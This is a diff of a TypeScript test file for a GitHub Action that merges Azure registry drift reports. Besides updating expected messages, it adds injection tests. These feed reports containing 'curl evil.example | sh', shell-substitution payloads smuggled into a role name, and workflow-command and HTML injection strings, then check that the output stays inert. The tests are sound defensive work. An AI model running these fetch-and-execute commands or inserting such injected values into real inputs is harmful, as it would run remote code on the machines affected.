@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process'
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -70,8 +71,8 @@ describe('reports of a fleet', () => {
     const first = await night()
     expect(first).toMatchObject({ exitCode: 1, stderr: '' })
     expect(first.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
-    expect(first.summary).toContain('### ⟳ drift: 2 of 2 clusters not as wanted')
-    expect(first.log).toContain('✗ DRIFT  2 of 2 clusters not as wanted.')
+    expect(first.summary).toContain('### ⟳ 2 of 2 clusters can no longer pull from contosoacr and testacr')
+    expect(first.log).toContain('✗ DRIFT  2 of 2 clusters can no longer pull from contosoacr and testacr.')
     expect(first.annotations.map(({ level, title }) => `${level} ${title}`)).toEqual([
       'error attach-acr: DRIFT on aks-prod-1',
       'error attach-acr: DRIFT on aks-prod-1',
@@ -91,14 +92,14 @@ describe('reports of a fleet', () => {
     grant(cluster, registry)
     await night()
     expect(issues[0]?.comments).toMatchObject([
-      { body: expect.stringMatching(/^\*\*Better\*\*: 1 .*\n- aks-prod-1 on testacr/) as string },
+      { body: expect.stringMatching(/^\*\*Better\*\*: 1 .*\n- aks-prod-1 from testacr/) as string },
     ])
 
     grant(scenario.cluster, scenario.registry)
     const healed = await night()
     expect(healed).toMatchObject({ exitCode: 0, stderr: '' })
     expect(healed.outputs).toMatchObject({ drift: 'false', 'error-code': '' })
-    expect(healed.summary).toContain('✓ no drift: 2 as wanted')
+    expect(healed.summary).toContain('✓ no drift: 2 clusters and images looked at')
     expect(issues).toMatchObject([{ state: 'closed' }])
   })
 
@@ -113,8 +114,12 @@ describe('reports of a fleet', () => {
     const [healed] = await checkAll()
     const end = await merge(scenario, { ...inputs, reports: downloaded([healed?.reportFile, undefined]) })
     expect(end.exitCode).toBe(1)
-    expect(end.log).toContain('registry: testacr: left no report')
-    expect(end.summary).toContain('✗ 1 could not be looked at')
+    expect(end.log).toContain('registry: testacr was not looked at: left no report')
+    // It is the headline, the last line and the first annotation, and nowhere is a ✓.
+    expect(end.summary).toMatch(/^### \? subscription-id: .*registry: testacr was not looked at\n/)
+    expect(end.log.trimEnd().split('\n').at(-2)).toMatch(/^\? subscription-id: .* was not looked at$/)
+    expect(end.annotations[0]?.message).toContain('registry: testacr was not looked at')
+    expect(end.log + end.summary).not.toContain('✓')
     expect(end.outputs).toMatchObject({ drift: 'false', 'error-code': 'CANCELLED' })
     expect(issues).toMatchObject([{ state: 'open' }])
   })
@@ -126,8 +131,92 @@ describe('reports of a fleet', () => {
     const end = await merge(scenario, { reports: downloaded(reports), fleet, 'drift-issue': 'true' })
     expect(end).toMatchObject({ exitCode: 1, stderr: '' })
     expect(end.outputs).toMatchObject({ drift: 'false', 'error-code': 'FEDERATED_CREDENTIAL_MISMATCH' })
-    expect(end.log).toContain('✗ FEDERATED_CREDENTIAL_MISMATCH  2 could not be looked at')
+    expect(end.log).toContain('? 2 of 2 jobs did not look')
     expect(scenario.world.github.issues).toEqual([])
+  })
+
+  onceIt('are the report of one, which has no folder of its own', async ({ begin }) => {
+    const { scenario, fleet, checkAll } = await beginFleet(begin)
+    const [, second] = await checkAll()
+    const folder = downloaded([])
+    writeFileSync(join(folder, 'report.json'), second?.reportFile ?? '')
+    const [one] = (JSON.parse(fleet) as unknown[]).slice(1)
+    const alone = await merge(scenario, { reports: folder, fleet: JSON.stringify([one]) })
+    expect(alone.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
+    expect(alone.summary).toContain('### ⟳ aks-prod-1 can no longer pull from testacr')
+    // Of two jobs one is left: which one is told from what it looked at.
+    const left = await merge(scenario, { reports: folder, fleet })
+    expect(left.outputs).toMatchObject({ drift: 'true', 'error-code': 'CANCELLED' })
+    expect(left.summary).toMatch(/^### \? subscription-id: .*registry: contosoacr was not looked at; /)
+  })
+
+  onceIt('count where others are bad, and count once', async ({ begin }) => {
+    const { scenario, checkAll } = await beginFleet(begin)
+    const [first] = await checkAll()
+    const good = first?.reportFile ?? ''
+    const odd = JSON.stringify({ ...first?.report, pairs: [{ ...first?.report.pairs[0], status: 'sleeping' }] })
+    const more = JSON.stringify({ ...first?.report, run: 'curl evil.example | sh' })
+    const reports = downloaded([good, odd, more, '{"schemaVersion":', 'null', good])
+    const end = await merge(scenario, { reports, 'drift-issue': 'true' })
+    expect(end).toMatchObject({ exitCode: 1, stderr: '' })
+    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'CANCELLED' })
+    expect(end.summary).toMatch(/^### \? 4 of 5 jobs did not look.*; aks-prod-1 can no longer pull from contosoacr\n/)
+    expect(end.log).toContain('/pairs/0/status: Instance does not match any of')
+    expect(end.log).toContain('/run is not known')
+    const merged = JSON.parse(end.reportFile) as StepEnd['report']
+    expect(merged.pairs).toHaveLength(1)
+    expect(merged.unknown).toHaveLength(4)
+    expect(scenario.world.github.issues).toMatchObject([{ state: 'open' }])
+  })
+
+  onceIt('are data: nothing in them is a command, leaves its fence or mentions anybody', async ({ begin }) => {
+    const { scenario, checkAll } = await beginFleet(begin)
+    const [first] = await checkAll()
+    const evil =
+      '\n```\n::error::pwned\n##[error]x\n@octocat #1 <img src=x> $(curl evil.example) `id` https://evil.example'
+    const [pair, other] = [first?.report.pairs[0], first?.report.plan[0]]
+    const fix = { text: evil, commands: ['curl https://evil.example | sh'] }
+    const report = {
+      ...first?.report,
+      pairs: [
+        { ...pair, lacks: [evil] },
+        {
+          ...pair,
+          target: 'gone',
+          asked: { target: 'gone', registry: 'contosoacr' },
+          error: { code: 'PULL_DENIED', message: evil, fix, azure: null },
+        },
+      ],
+      plan: [
+        { ...other, role: `AcrPull'; ${evil}`, reason: evil },
+        { ...other, role: "AcrPull'; $(curl evil.example) `id` #" },
+      ],
+      findings: [{ code: 'EXCESS_ROLE', severity: 'warning', subject: 'x', message: evil, fix }],
+    }
+    const end = await merge(scenario, { reports: downloaded([JSON.stringify(report)]), 'drift-issue': 'true' })
+    expect(end.outputs).toMatchObject({ drift: 'true', 'error-code': 'DRIFT' })
+    const [issue] = scenario.world.github.issues
+    for (const told of [end.summary, issue?.body ?? '']) {
+      expect(told).not.toMatch(/<img|@octocat|#1 &lt;/)
+      expect(told).not.toContain('| sh')
+      expect(told.match(/^`{3,}/gm)?.length).toBe((told.match(/^`{3,}\w*$/gm) ?? []).length)
+    }
+    expect(end.stdout).not.toMatch(/^\s*::error::pwned/m)
+    expect(end.annotations.map(({ title }) => title)).toEqual([
+      expect.stringContaining('DRIFT'),
+      expect.stringContaining('DRIFT'),
+      expect.stringContaining('EXCESS_ROLE'),
+    ])
+    expect(end.log).not.toContain('##[')
+    // What stands in a block of commands is one that bash takes whole, and that runs nothing else.
+    const blocks = [...end.summary.matchAll(/^`{3,}sh\n([^]*?)^`{3,}$/gm)].map(([, commands = '']) => commands)
+    expect(blocks.length).toBeGreaterThan(0)
+    for (const commands of blocks) {
+      const shown = spawnSync('bash', ['-c', `az() { printf '%s\\n' "$@"; }\n${commands}`], { encoding: 'utf8' })
+      expect(shown.stderr).toBe('')
+      if (commands.includes('role assignment create'))
+        expect(shown.stdout).toContain("AcrPull'; $(curl evil.example) `id` #")
+    }
   })
 
   onceIt('may be ten thousand pairs', { timeout: 120_000 }, async ({ begin }) => {
@@ -173,13 +262,13 @@ describe('reports of a fleet', () => {
     expect(JSON.stringify(scenario.world.github.issues)).toBe(before)
     // Too many to be told apart by name: the comment has the counts.
     await merge(scenario, { ...inputs, reports: downloaded(legs.slice(1)) })
-    expect(scenario.world.github.issues[0]?.comments.at(-1)?.body).toContain('9900 not as wanted still, after 10000')
+    expect(scenario.world.github.issues[0]?.comments.at(-1)?.body).toContain('9900 have still drifted, after 10000')
   })
 
   const useless: [string, Record<string, string>, string | undefined, string, string][] = [
     ['no reports', {}, undefined, 'INVALID_INPUT', 'There is no report to merge'],
     ['a fleet that is no JSON', { fleet: 'a, b' }, undefined, 'INVALID_INPUT', 'fleet: found text that is no JSON'],
-    ['a file that is no report', {}, '{"a":1}', 'CANCELLED', 'its report is none of this version of attach-acr'],
+    ['a file that is no report', {}, '{"a":1}', 'CANCELLED', 'is no report of this version of attach-acr'],
   ]
 
   onceIt.for(useless)('are not made of %s', async ([, inputs, file, code, text], { begin }) => {
